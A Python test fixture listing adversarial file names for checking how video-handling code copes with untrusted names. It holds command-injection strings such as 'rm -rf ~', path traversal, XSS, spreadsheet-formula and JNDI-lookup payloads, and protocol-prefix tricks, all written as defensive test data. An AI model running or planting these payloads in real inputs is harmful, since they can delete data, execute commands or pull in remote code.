"""Sixty names that Dropbox, or somebody in its place, may give a file."""

from __future__ import annotations

NAMES = (
    *(
        "../../x.mp4",
        "..\\x.mp4",
        "/etc/passwd",
        "a:b.mp4",
        "-i.mp4",
        "%03d.mp4",
        "CON",
        "CON.mp4",
        "nul.mp4",
    ),
    *("file.mp4\n.sh", "a\r\nb.mp4", "tab\there.mp4", "nul\0byte.mp4", "bell\a.mp4", "esc\x1b[31mred.mp4"),
    *("\u202egpj.mp4", "\u2066hidden\u2069.mp4", "\u200bzero.mp4", "café.mp4", "cafe\u0301.mp4"),
    *("A.mov", "a.mov", "ｆｕｌｌ.mp4", "x" * 251 + ".mp4", "é" * 200 + ".mp4", "🎬" * 60 + ".mp4"),
    *("file:evil.mp4", "http://evil.example/x.mp4", "concat:a|b.mp4", "subfile,,start,0.mp4", "pipe:0.mp4"),
    *("$(touch owned).mp4", "`touch owned`.mp4", "; rm -rf ~.mp4", "| cat.mp4", "&& x.mp4", "> out.mp4"),
    *("'quoted'.mp4", '"double".mp4', "back\\slash.mp4", "*.mp4", "?.mp4", "[a-z].mp4", "{a,b}.mp4", "~.mp4"),
    *("<img src=x onerror=alert(1)>.mp4", "=cmd|' /C calc'!A0.mp4", "{{7*7}}.mp4", "${jndi:ldap://x}.mp4"),
    *(
        ".hidden.mp4",
        "..mp4",
        "....mp4",
        " leading.mp4",
        "two  spaces.mp4",
        "dot.at.end.mp4.",
        "no-ending",
        "prn.mp4",
    ),
    *("a/../../b.mp4", "C:\\Windows\\x.mp4", "\\\\server\\share.mp4", "x.mp4/../../../y.mp4"),
)
"""All different."""
